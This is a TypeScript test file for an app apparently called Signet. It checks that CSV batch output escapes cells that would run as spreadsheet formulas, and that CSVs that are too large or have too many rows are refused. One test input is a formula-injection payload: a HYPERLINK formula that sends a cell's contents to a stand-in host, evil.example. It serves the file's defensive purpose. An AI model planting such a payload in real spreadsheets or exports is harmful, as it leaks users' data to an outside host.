/**
 * The CSV batch as the window drives it (IPC router, real services on a SQLite file and the test keyring):
 * every cell of the answer that a spreadsheet would run as a formula gets a leading `'`, echoed input cells
 * included, while the rows are still issued with their values unchanged in the ledger; a CSV over the size
 * bound is refused before it is parsed, and one of a million rows is refused after the row limit, quickly, with
 * a plain message, main answering other calls meanwhile. `signet links batch` is in cli-audit-edges.test.ts.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BATCH_MAX_CSV_CHARS } from '../../src/shared/links/schemas';
import { startHarness, type Harness } from '../support/main-harness';
import { requirePrivateTestKeyring } from '../support/test-keyring';

requirePrivateTestKeyring();

const HEADER = 'order,email,product,max,expires';
const FORMULA_START = /^[=+\-@\t\r]/;

let h: Harness;
let accountId: string;

beforeAll(async () => {
  h = startHarness({ prefix: 'links-limits' });
  const account = await h.ok('accounts:add', {
    settings: {
      name: 'Limits',
      provider: 'custom',
      endpoint: 'http://127.0.0.1:9',
      region: 'us-east-1',
      forcePathStyle: true,
      buckets: ['shop'],
      privateBucket: null,
    },
    credentials: { accessKeyId: 'AKIDLIMITS', secretAccessKey: 'limits-secret-key-not-used-for-network' },
  });
  accountId = account.id;
  await h.ok('settings:update', { verifierBaseUrl: 'https://shop.example.com' });
  // The product slug becomes known through a first link (the catalog is empty here; no network).
  await h.services.links.createForKey({
    accountId,
    bucket: 'shop',
    key: 'products/my-plugin.zip',
    kind: 'verifier',
    productSlug: 'my-plugin',
    expiry: { type: 'preset', preset: '7d' },
  });
});

afterAll(async () => {
  await h?.close();
});

describe('links:batch-issue output cells', () => {
  it('prefixes formula cells with a quote, echoed input included; the rows are issued as given', async () => {
    const csv = [
      HEADER,
      '"=HYPERLINK(""http://evil.example/?d=""&A1;""Click"")",buyer@example.com,my-plugin,2,7d',
      '+33 612,-dash@example.com,my-plugin,,7d',
      '@SUM(A1:A9),tab@example.com,my-plugin,1,"\t30d"',
      '-5,cr@example.com,my-plugin,+3,7d',
    ].join('\n');
    const issued = await h.ok('links:batch-issue', { csv, accountId });
    expect(issued).toMatchObject({ issued: 3, failed: 1 });

    const out = parse(issued.csv) as string[][];
    expect(out[0]).toEqual([...HEADER.split(','), 'url', 'jti', 'expires_at', 'error']);
    expect(out.slice(1).map((r) => r.slice(0, 5))).toEqual([
      ['\'=HYPERLINK("http://evil.example/?d="&A1;"Click")', 'buyer@example.com', 'my-plugin', '2', '7d'],
      ["'+33 612", "'-dash@example.com", 'my-plugin', '', '7d'],
      ["'@SUM(A1:A9)", 'tab@example.com', 'my-plugin', '1', "'\t30d"],
      ["'-5", 'cr@example.com', 'my-plugin', "'+3", '7d'],
    ]);
    // The bad row's error (its max) is written too, and no cell of the file starts a formula.
    expect(out[4]![8]).toBe('max: “+3” is not a number of downloads (1 or more, or none)');
    expect(out.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);

    // The links themselves carry the order ids as given: only the CSV cells are guarded.
    const orders = (await h.ok('links:list', { limit: 50 })).rows.map((r) => r.orderId);
    expect(orders).toEqual(
      expect.arrayContaining(['=HYPERLINK("http://evil.example/?d="&A1;"Click")', '+33 612', '@SUM(A1:A9)']),
    );
  });
});

describe('links:batch-preview and -issue size and row limits', () => {
  it('refuses a CSV over the size bound before parsing it, naming the limit', async () => {
    const csv = `${HEADER}\n${'x'.repeat(BATCH_MAX_CSV_CHARS)}`;
    const answer = await h.call('links:batch-preview', { csv, accountId });
    expect(answer).toEqual({
      ok: false,
      error: expect.objectContaining({
        code: 'invalid-input',
        issues: [
          {
            path: 'csv',
            message: 'The CSV is too large (Signet takes at most 20 MB): split it into smaller files.',
          },
        ],
      }),
    });
  });

  it('refuses a 1,000,000-row CSV quickly with a plain message, answering other calls meanwhile', async () => {
    // 7 bytes a row: well under the size bound, so the row limit is what refuses it.
    const csv = `${HEADER}\n${'1,,p,,\n'.repeat(1_000_000)}`;
    expect(csv.length).toBeLessThan(BATCH_MAX_CSV_CHARS);
    let otherCalls = 0;
    let parsing = true;
    const other = (async () => {
      while (parsing) {
        await h.ok('settings:get', undefined);
        otherCalls++;
        await new Promise((resolve) => setImmediate(resolve));
      }
    })();

    const started = performance.now();
    for (const channel of ['links:batch-preview', 'links:batch-issue'] as const) {
      expect(await h.call(channel, { csv, accountId })).toEqual({
        ok: false,
        error: {
          code: 'invalid-input',
          message:
            'The CSV has more than 100,000 rows, the most Signet takes in one file; nothing was issued. Split ' +
            'it into smaller files and issue them one at a time.',
        },
      });
    }
    const ms = (performance.now() - started) / 2;
    parsing = false;
    await other;
    console.log(
      `1,000,000-row CSV refused in ${ms.toFixed(0)} ms; ${otherCalls} other calls answered meanwhile`,
    );
    // A generous bound (the issue asks for a second on a quiet machine): it must not parse all million rows.
    expect(ms).toBeLessThan(5000);
    // One turn per parsed chunk (16 KiB): a parse that held the event loop would let through one or two.
    expect(otherCalls).toBeGreaterThan(10);
    // Nothing was issued from it.
    expect((await h.ok('links:list', { limit: 500 })).rows.some((r) => r.orderId === '1')).toBe(false);
  });
});
